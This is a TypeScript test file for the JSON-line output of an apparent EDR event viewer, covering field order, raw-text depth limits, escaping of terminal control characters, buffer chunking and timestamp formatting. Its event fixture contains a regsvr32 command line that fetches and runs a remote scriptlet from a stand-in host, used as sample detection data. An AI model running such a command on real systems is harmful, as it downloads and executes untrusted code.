import {describe, expect, it} from 'vitest';
import type {EdrEvent} from '../../../source/core/event.js';
import {serializeJsonLine, serializeJsonLines, toJsonLine} from '../../../source/core/view/json-line.js';
import {isoTime} from '../../../source/core/view/time.js';
import {makeEvent, regsvr32Hit} from './make-event.js';

const kafka = {
	topic: 't',
	partition: 2,
	offset: '9',
	timestamp: 1_700_000_000_500,
	timestampType: 'CreateTime' as const,
};

function full(seq: number, over: Partial<EdrEvent> = {}): EdrEvent {
	const cmd = 'regsvr32.exe /s /u /i:https://example.test/a.sct scrobj.dll';
	return makeEvent(seq, {
		host: 'WS01',
		user: 'CORP\\alice',
		time: 1_700_000_000_123,
		ingestTime: 1_700_000_000_400,
		kafka,
		actor: {name: 'cmd.exe', image: 'C:\\Windows\\System32\\cmd.exe', pid: 10},
		target: {process: {name: 'regsvr32.exe', cmdline: cmd}},
		hits: [regsvr32Hit(cmd)],
		raw: {'src.process.name': 'cmd.exe', n: 1},
		...over,
	});
}

describe('the --json line', () => {
	it('parses back to toJsonLine, keys in the documented order', () => {
		const ev = full(1);
		const line = serializeJsonLine(ev);
		expect(JSON.parse(line)).toEqual(JSON.parse(JSON.stringify(toJsonLine(ev))));
		expect(Object.keys(JSON.parse(line))).toEqual([
			'category',
			'family',
			'format',
			'time',
			'ingestTime',
			'receivedAt',
			'host',
			'user',
			'summary',
			'actor',
			'target',
			'hits',
			'kafka',
			'latencyMs',
			'raw',
		]);
		// The hit keeps only the documented keys.
		expect(Object.keys(JSON.parse(line).hits[0])).toEqual(['id', 'title', 'level', 'tags', 'fields']);
	});

	it('writes raw as the text decode kept, when there is one', () => {
		const line = serializeJsonLine(full(1, {raw: {big: 1}, rawJson: '{"big":12345678901234567890}'}));
		expect(line.endsWith(',"raw":{"big":12345678901234567890}}')).toBe(true);
	});

	it('cuts a raw text deeper than JSON_MAX_DEPTH as toJson cuts the object', () => {
		const deep = (n: number) => '['.repeat(n) + ']'.repeat(n);
		for (const n of [64, 65, 200]) {
			const text = `{"d":${deep(n - 1)},"s":"[[[[{{{{"}`;
			const ev = full(1, {raw: JSON.parse(text), rawJson: text});
			expect(serializeJsonLine(ev)).toBe(serializeJsonLine({...ev, rawJson: undefined}));
		}
		// Brackets inside strings do not count as depth.
		const many = `{"s":"${'['.repeat(100)}","t":["${'{'.repeat(100)}"]}`;
		expect(serializeJsonLine(full(1, {raw: {}, rawJson: many})).endsWith(`,"raw":${many}}`)).toBe(true);
	});

	it('leaves raw out when it is undefined, as JSON.stringify does', () => {
		expect(JSON.parse(serializeJsonLine(full(1, {raw: undefined})))).not.toHaveProperty('raw');
		expect(JSON.parse(serializeJsonLine(full(1, {raw: null}))).raw).toBeNull();
	});

	it('still writes a bigint that reached the normalized fields', () => {
		const ev = full(1, {target: {exitCode: 5n as unknown as number}});
		expect(JSON.parse(serializeJsonLine(ev)).target).toEqual({exitCode: '5'});
	});

	it('escapes what a terminal would act on, in raw text and normalized fields alike', () => {
		const nasty = 'a\u202eb\u007fc\u0085d\u2028e';
		const ev = full(1, {summary: nasty, rawJson: JSON.stringify({s: nasty})});
		const line = serializeJsonLine(ev);
		expect(line).not.toMatch(/[\u007f-\u009f\u2028\u202e]/);
		expect(line).toContain('a\\u202eb\\u007fc\\u0085d\\u2028e');
		expect(JSON.parse(line).summary).toBe(nasty);
		expect(JSON.parse(line).raw.s).toBe(nasty);
	});
});

describe('serializeJsonLines', () => {
	it('is the lines one by one, each with a newline, as UTF-8', () => {
		const events = [
			full(1),
			full(2, {summary: 'café ☃ 😀 …', rawJson: '{"x":"\u00e9\u2603"}'}),
			full(3, {summary: 'del \u007f only'}),
			full(4, {summary: 'bidi \u202e and \u00e9', raw: {s: '\u2028'}}),
			makeEvent(5),
			// raw's text written after the head: ASCII, DEL inside it, none at all.
			full(6, {rawJson: '{"path":"C:\\\\x","n":[1,{"a":null}]}', rawJsonDepth: 3}),
			full(7, {rawJson: '{"d":"\u007f"}'}),
			full(8, {raw: undefined}),
		];
		const text = Buffer.concat(serializeJsonLines(events)).toString('utf8');
		expect(text).toBe(events.map(e => `${serializeJsonLine(e)}\n`).join(''));
		expect(text).not.toMatch(/[\u007f\u2028\u202e]/);
		expect(serializeJsonLines([])).toEqual([]);
	});

	it('fills buffers of about 1 MiB, never splitting a line', () => {
		const events = Array.from({length: 3000}, (_, i) => full(i, {summary: 'é'.repeat(i % 7 === 0 ? 3000 : 50)}));
		const chunks = serializeJsonLines(events);
		expect(chunks.length).toBeGreaterThan(1);
		for (const chunk of chunks) expect(chunk.at(-1)).toBe(0x0a);
		// A line that grows by escaping past what was planned for it still comes out whole.
		const grown = [full(1, {summary: 'x'}), full(2, {summary: '\u202e'.repeat(200_000)}), full(3)];
		const text = Buffer.concat(serializeJsonLines(grown)).toString('utf8');
		expect(text).toBe(grown.map(e => `${serializeJsonLine(e)}\n`).join(''));
		expect(Buffer.concat(chunks).toString('utf8')).toBe(events.map(e => `${serializeJsonLine(e)}\n`).join(''));
	});
});

describe('isoTime', () => {
	it('writes what toISOString writes, across days, years and the edges of its fast path', () => {
		const times = [0, 1, 999, 1000, 86_399_999, 86_400_000, 951_782_400_000, 1_700_000_000_123, 253_402_300_799_999];
		for (let t = 0; t < 2000; t++) times.push(Math.floor((t * 7_919_000_000_003) % 253_402_300_800_000));
		for (const ms of times) expect(isoTime(ms)).toBe(new Date(ms).toISOString());
		// Outside it: negative, fractional, past year 9999 still come from Date.
		for (const ms of [-1, -86_400_001, 1.5, 253_402_300_800_000, 8.64e15])
			expect(isoTime(ms)).toBe(new Date(ms).toISOString());
		expect(isoTime(8.64e15 + 1)).toBeUndefined();
		expect(isoTime(Number.NaN)).toBeUndefined();
		expect(isoTime(undefined)).toBeUndefined();
	});
});
